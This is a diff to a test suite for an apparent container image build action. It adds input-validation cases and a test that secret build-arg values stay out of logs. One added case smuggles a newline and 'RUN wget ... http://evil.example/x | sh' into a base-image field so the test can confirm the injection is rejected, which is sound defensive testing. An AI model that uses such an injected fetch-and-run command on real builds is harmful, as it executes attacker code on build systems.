@@ -777,6 +777,12 @@ describe('assemble: bad input and failing registries', () => {
     [{ port: '70000' }, /Input 'port'/],
     [{ push: 'yes' }, /Input 'push'/],
     [{ mode: 'assemble', artifacts: '' }, /Input 'artifacts': is empty but mode is assemble/],
+    // It became `ARG RUNTIME_IMAGE=…` of the generated Dockerfile: a newline added instructions.
+    [
+      { mode: 'dockerfile', artifacts: '', base: 'alpine\nRUN wget -qO- http://evil.example/x | sh' },
+      /Input 'base': it contains whitespace or control characters/,
+    ],
+    [{ mode: 'dockerfile', artifacts: '', base: 'alpine AS x' }, /Input 'base'/],
   ])('input check %o', async (inputs, message) => {
     const r = await act({ image: `${infra.REGISTRY}/acme/hello`, artifacts, ...inputs });
     expect(r.exitCode).toBe(1);
@@ -962,6 +968,39 @@ describe('dockerfile (buildah)', () => {
       expect.arrayContaining([expect.stringContaining('VERSON'), expect.stringContaining('ARG NEEDED')]),
     );
     expect(lax.outputs.digest).toMatch(/^sha256:/);
+  });
+});
+
+describe('dockerfile: build-arg values never printed', () => {
+  test('a failing build prints the builder command without build-arg values; the values still reach the build', async () => {
+    const ws = mkdtempSync(join(tmpdir(), 'dm-df-'));
+    cpSync(repo, ws, { recursive: true });
+    const secret = `tok-${randomUUID()}`;
+    const proxy = `http://proxy-${randomUUID()}.invalid:3128`;
+    const hash = createHash('sha256').update(secret).digest('hex');
+    // Exit 7 only when the value arrived intact: proves delivery without the value in any printed text.
+    writeFileSync(
+      join(ws, 'Dockerfile'),
+      `FROM ${base.BASE_BUSYBOX}\nARG SECRET_TOKEN\nARG HTTP_PROXY\nRUN if [ "$(printf %s "$SECRET_TOKEN" | sha256sum | cut -c1-64)" = "${hash}" ]; then exit 7; else exit 9; fi\n`,
+    );
+    const r = await act(
+      {
+        mode: 'dockerfile',
+        image: `${infra.REGISTRY}/acme/buildargs`,
+        'build-args': `SECRET_TOKEN=${secret}\nHTTP_PROXY=${proxy}`,
+        platforms: 'linux/amd64',
+      },
+      {},
+      ws,
+    );
+    expect(r.exitCode).toBe(1);
+    expect(r.errors).toContain('--build-arg SECRET_TOKEN ');
+    expect(r.errors).toContain('--build-arg HTTP_PROXY=*** ');
+    expect(r.errors).toMatch(/exited with code 7|exit status 7/);
+    for (const text of [r.stdout, r.errors, JSON.stringify(r.annotations)]) {
+      expect(text).not.toContain(secret);
+      expect(text).not.toContain(proxy);
+    }
   });
 });
 
